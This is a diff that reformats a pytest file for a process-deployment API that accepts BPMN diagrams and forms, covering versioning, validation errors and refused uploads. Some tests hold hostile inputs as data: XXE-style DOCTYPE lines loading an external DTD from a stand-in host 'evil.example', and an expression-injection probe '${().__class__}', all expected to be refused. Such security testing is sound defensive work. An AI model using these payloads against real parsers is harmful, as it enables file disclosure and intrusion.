@@ -37,8 +37,9 @@ def test_upload_creates_versions_and_unchanged_files_keep_theirs(as_user, tmp_pa
     form = (FIXTURES / "basic" / "simple_police.form").read_text().replace("Registratienummer", "Nummer")
     (tmp_path / "simple_police.form").write_text(form)
     changed = upload(owner, [tmp_path / "simple_police.form"])
-    assert changed["files"] == [{"file": "simple_police.form", "kind": "form", "key": "simple_police",
-                                 "version": 2, "status": "new_version"}]
+    assert changed["files"] == [
+        {"file": "simple_police.form", "kind": "form", "key": "simple_police", "version": 2, "status": "new_version"}
+    ]
     assert changed["processes"] == [{"process_id": "simple_case", "version": 2, "status": "new_version"}]
     versions = owner.get("/api/v1/process-definitions/simple_case/versions").get_json()
     assert [v["version"] for v in versions] == [2, 1]
@@ -48,7 +49,11 @@ def test_running_case_stays_on_its_version(as_user, tmp_path):
     owner, gemeente = as_user("procesbeheerder"), as_user("gemeente.westbetuwe")
     upload(owner, BASIC)
     old = gemeente.start("simple_case", {"summary": "x", "municipality_code": "GM0668"})
-    form = (FIXTURES / "basic" / "simple_triage.form").read_text().replace('"validate": {"min": 0}', '"validate": {"min": 0, "required": true}')
+    form = (
+        (FIXTURES / "basic" / "simple_triage.form")
+        .read_text()
+        .replace('"validate": {"min": 0}', '"validate": {"min": 0, "required": true}')
+    )
     (tmp_path / "simple_triage.form").write_text(form)
     upload(owner, [tmp_path / "simple_triage.form"])
     new = gemeente.start("simple_case", {"summary": "y", "municipality_code": "GM0668"})
@@ -71,46 +76,70 @@ BROKEN = {
 
 
 def _broken_bpmn(kind: str) -> str:
-    head = ('<?xml version="1.0" encoding="UTF-8"?>\n'
-            '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
-            'xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="d" targetNamespace="x">\n'
-            '  <bpmn:process id="broken" isExecutable="true">\n'
-            '    <bpmn:startEvent id="start"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>\n'
-            '    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="{first}" />\n')
-    tail = '  </bpmn:process>\n</bpmn:definitions>\n'
-    task = ('    <bpmn:userTask id="task" camunda:formRef="simple_police" camunda:candidateGroups="politie">'
-            '<bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f2</bpmn:outgoing></bpmn:userTask>\n'
-            '    <bpmn:sequenceFlow id="f2" sourceRef="task" targetRef="end" />\n'
-            '    <bpmn:endEvent id="end"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>\n')
+    head = (
+        '<?xml version="1.0" encoding="UTF-8"?>\n'
+        '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
+        'xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="d" targetNamespace="x">\n'
+        '  <bpmn:process id="broken" isExecutable="true">\n'
+        '    <bpmn:startEvent id="start"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>\n'
+        '    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="{first}" />\n'
+    )
+    tail = "  </bpmn:process>\n</bpmn:definitions>\n"
+    task = (
+        '    <bpmn:userTask id="task" camunda:formRef="simple_police" camunda:candidateGroups="politie">'
+        "<bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f2</bpmn:outgoing></bpmn:userTask>\n"
+        '    <bpmn:sequenceFlow id="f2" sourceRef="task" targetRef="end" />\n'
+        '    <bpmn:endEvent id="end"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>\n'
+    )
     if kind == "not_xml":
         return head.format(first="task") + task + "  </bpmn:process>\n"
     if kind == "complex_gateway":
-        return head.format(first="gw") + (
-            '    <bpmn:complexGateway id="gw"><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f9</bpmn:outgoing></bpmn:complexGateway>\n'
-            '    <bpmn:sequenceFlow id="f9" sourceRef="gw" targetRef="end" />\n'
-            '    <bpmn:endEvent id="end"><bpmn:incoming>f9</bpmn:incoming></bpmn:endEvent>\n') + tail
+        return (
+            head.format(first="gw")
+            + (
+                '    <bpmn:complexGateway id="gw"><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f9</bpmn:outgoing></bpmn:complexGateway>\n'
+                '    <bpmn:sequenceFlow id="f9" sourceRef="gw" targetRef="end" />\n'
+                '    <bpmn:endEvent id="end"><bpmn:incoming>f9</bpmn:incoming></bpmn:endEvent>\n'
+            )
+            + tail
+        )
     if kind == "missing_call_target":
-        return head.format(first="call") + (
-            '    <bpmn:callActivity id="call" calledElement="nowhere"><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f9</bpmn:outgoing></bpmn:callActivity>\n'
-            '    <bpmn:sequenceFlow id="f9" sourceRef="call" targetRef="end" />\n'
-            '    <bpmn:endEvent id="end"><bpmn:incoming>f9</bpmn:incoming></bpmn:endEvent>\n') + tail
+        return (
+            head.format(first="call")
+            + (
+                '    <bpmn:callActivity id="call" calledElement="nowhere"><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f9</bpmn:outgoing></bpmn:callActivity>\n'
+                '    <bpmn:sequenceFlow id="f9" sourceRef="call" targetRef="end" />\n'
+                '    <bpmn:endEvent id="end"><bpmn:incoming>f9</bpmn:incoming></bpmn:endEvent>\n'
+            )
+            + tail
+        )
     if kind == "bad_timer":
-        return head.format(first="wait") + (
-            '    <bpmn:intermediateCatchEvent id="wait"><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f9</bpmn:outgoing>\n'
-            '      <bpmn:timerEventDefinition><bpmn:timeDuration>P2X</bpmn:timeDuration></bpmn:timerEventDefinition>\n'
-            '    </bpmn:intermediateCatchEvent>\n'
-            '    <bpmn:sequenceFlow id="f9" sourceRef="wait" targetRef="end" />\n'
-            '    <bpmn:endEvent id="end"><bpmn:incoming>f9</bpmn:incoming></bpmn:endEvent>\n') + tail
+        return (
+            head.format(first="wait")
+            + (
+                '    <bpmn:intermediateCatchEvent id="wait"><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f9</bpmn:outgoing>\n'
+                "      <bpmn:timerEventDefinition><bpmn:timeDuration>P2X</bpmn:timeDuration></bpmn:timerEventDefinition>\n"
+                "    </bpmn:intermediateCatchEvent>\n"
+                '    <bpmn:sequenceFlow id="f9" sourceRef="wait" targetRef="end" />\n'
+                '    <bpmn:endEvent id="end"><bpmn:incoming>f9</bpmn:incoming></bpmn:endEvent>\n'
+            )
+            + tail
+        )
     if kind == "no_form":
         return head.format(first="task") + task.replace(' camunda:formRef="simple_police"', "") + tail
     if kind == "unknown_role":
         return head.format(first="task") + task.replace('"politie"', '"politei"') + tail
     if kind == "bad_condition":
-        return head.format(first="task") + task.replace('targetRef="end" />', 'targetRef="gw" />').replace(
-            '    <bpmn:endEvent id="end"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>\n',
-            '    <bpmn:exclusiveGateway id="gw"><bpmn:incoming>f2</bpmn:incoming><bpmn:outgoing>f3</bpmn:outgoing></bpmn:exclusiveGateway>\n'
-            '    <bpmn:sequenceFlow id="f3" sourceRef="gw" targetRef="end"><bpmn:conditionExpression>x ==</bpmn:conditionExpression></bpmn:sequenceFlow>\n'
-            '    <bpmn:endEvent id="end"><bpmn:incoming>f3</bpmn:incoming></bpmn:endEvent>\n') + tail
+        return (
+            head.format(first="task")
+            + task.replace('targetRef="end" />', 'targetRef="gw" />').replace(
+                '    <bpmn:endEvent id="end"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>\n',
+                '    <bpmn:exclusiveGateway id="gw"><bpmn:incoming>f2</bpmn:incoming><bpmn:outgoing>f3</bpmn:outgoing></bpmn:exclusiveGateway>\n'
+                '    <bpmn:sequenceFlow id="f3" sourceRef="gw" targetRef="end"><bpmn:conditionExpression>x ==</bpmn:conditionExpression></bpmn:sequenceFlow>\n'
+                '    <bpmn:endEvent id="end"><bpmn:incoming>f3</bpmn:incoming></bpmn:endEvent>\n',
+            )
+            + tail
+        )
     raise AssertionError(kind)
 
 
@@ -136,10 +165,18 @@ def test_broken_diagram_is_refused_with_file_line_element_and_nothing_changes(ap
 def test_broken_form_names_the_field(as_user, tmp_path):
     owner = as_user("procesbeheerder")
     path = tmp_path / "bad.form"
-    path.write_text('{"id": "bad", "type": "default",\n "components": [\n  {"type": "select", "key": "pick", "label": "Kies"}\n]}')
+    path.write_text(
+        '{"id": "bad", "type": "default",\n "components": [\n  {"type": "select", "key": "pick", "label": "Kies"}\n]}'
+    )
     report = upload(owner, [path], expect=422)
-    assert report["errors"] == [{"file": "bad.form", "line": 3, "element_id": "pick",
-                                 "message": "'pick' needs 'values', 'valuesKey' or 'valuesExpression'."}]
+    assert report["errors"] == [
+        {
+            "file": "bad.form",
+            "line": 3,
+            "element_id": "pick",
+            "message": "'pick' needs 'values', 'valuesKey' or 'valuesExpression'.",
+        }
+    ]
 
 
 def test_only_process_owners_deploy(as_user):
@@ -157,8 +194,9 @@ def test_upload_without_files_is_a_clear_422(as_user):
 def test_conformance_diagram_deploys_or_is_refused_precisely(app, as_user, path):
     owner = as_user("procesbeheerder")
     before = deployed_file_count(app)
-    response = owner.post("/api/v1/deployments", data={"files": [(open(path, "rb"), path.name)]},
-                          content_type="multipart/form-data")
+    response = owner.post(
+        "/api/v1/deployments", data={"files": [(open(path, "rb"), path.name)]}, content_type="multipart/form-data"
+    )
     assert response.status_code in (201, 422), response.get_json()
     body = response.get_json()
     if response.status_code == 201:
@@ -176,11 +214,14 @@ def test_conformance_diagram_deploys_or_is_refused_precisely(app, as_user, path)
             assert element.sourceline <= problem["line"] <= last_line + 1, problem
 
 
-@pytest.mark.parametrize("doctype", [
-    '<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
-    '<!DOCTYPE definitions SYSTEM "http://evil.example/bpmn.dtd">',
-    '<!DOCTYPE definitions [<!ENTITY name "Triage">]>',
-])
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        '<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
+        '<!DOCTYPE definitions SYSTEM "http://evil.example/bpmn.dtd">',
+        '<!DOCTYPE definitions [<!ENTITY name "Triage">]>',
+    ],
+)
 def test_a_doctype_is_refused_and_nothing_is_deployed(as_user, app, tmp_path, doctype):
     owner = as_user("procesbeheerder")
     text = (FIXTURES / "basic" / "simple_case.bpmn").read_text()
@@ -193,14 +234,21 @@ def test_a_doctype_is_refused_and_nothing_is_deployed(as_user, app, tmp_path, do
     assert deployed_file_count(app) == 0
 
 
-@pytest.mark.parametrize("attribute, accepted", [
-    ('camunda:historyTimeToLive="altijd"', False), ('camunda:historyTimeToLive="180"', True),
-    ('camunda:historyTimeToLive="P2Y"', True), ('camunda:historyTimeToLive="P0D"', False),
-])
+@pytest.mark.parametrize(
+    "attribute, accepted",
+    [
+        ('camunda:historyTimeToLive="altijd"', False),
+        ('camunda:historyTimeToLive="180"', True),
+        ('camunda:historyTimeToLive="P2Y"', True),
+        ('camunda:historyTimeToLive="P0D"', False),
+    ],
+)
 def test_a_retention_period_that_does_not_parse_is_refused_at_deploy(as_user, app, tmp_path, attribute, accepted):
     owner = as_user("procesbeheerder")
     text = (FIXTURES / "basic" / "simple_case.bpmn").read_text()
-    (tmp_path / "simple_case.bpmn").write_text(text.replace('isExecutable="true"', f'isExecutable="true" {attribute}', 1))
+    (tmp_path / "simple_case.bpmn").write_text(
+        text.replace('isExecutable="true"', f'isExecutable="true" {attribute}', 1)
+    )
     forms = [p for p in BASIC if p.suffix == ".form"]
     if accepted:
         upload(owner, [tmp_path / "simple_case.bpmn", *forms])
@@ -224,15 +272,22 @@ def test_a_form_whose_readers_are_not_roles_is_refused(as_user, app, tmp_path):
     assert deployed_file_count(app) == 0
 
 
-@pytest.mark.parametrize("priority, accepted", [
-    ("80", True), ("${90 if acute_danger else 50}", True), ("hoog", False), ("150", False),
-    ("${().__class__}", False),
-])
+@pytest.mark.parametrize(
+    "priority, accepted",
+    [
+        ("80", True),
+        ("${90 if acute_danger else 50}", True),
+        ("hoog", False),
+        ("150", False),
+        ("${().__class__}", False),
+    ],
+)
 def test_a_task_priority_is_a_number_or_an_expression(as_user, app, tmp_path, priority, accepted):
     owner = as_user("procesbeheerder")
     text = (FIXTURES / "basic" / "simple_case.bpmn").read_text()
     (tmp_path / "simple_case.bpmn").write_text(
-        text.replace('camunda:dueDate="P2D"', f'camunda:dueDate="P2D" camunda:priority="{priority}"', 1))
+        text.replace('camunda:dueDate="P2D"', f'camunda:dueDate="P2D" camunda:priority="{priority}"', 1)
+    )
     forms = [p for p in BASIC if p.suffix == ".form"]
     if accepted:
         upload(owner, [tmp_path / "simple_case.bpmn", *forms])
@@ -250,6 +305,8 @@ def test_a_process_id_defined_by_another_file_is_refused_naming_both_files(as_us
     refused = upload(owner, [copy], expect=422)
     duplicate = [e for e in refused["errors"] if "simple_case" in e["message"]]
     assert duplicate, refused
-    assert all("copy_of_simple.bpmn" in e["message"] + e["file"] and "simple_case.bpmn" in e["message"] + e["file"]
-               for e in duplicate), duplicate
+    assert all(
+        "copy_of_simple.bpmn" in e["message"] + e["file"] and "simple_case.bpmn" in e["message"] + e["file"]
+        for e in duplicate
+    ), duplicate
     assert any(e["file"] == "copy_of_simple.bpmn" for e in duplicate), duplicate
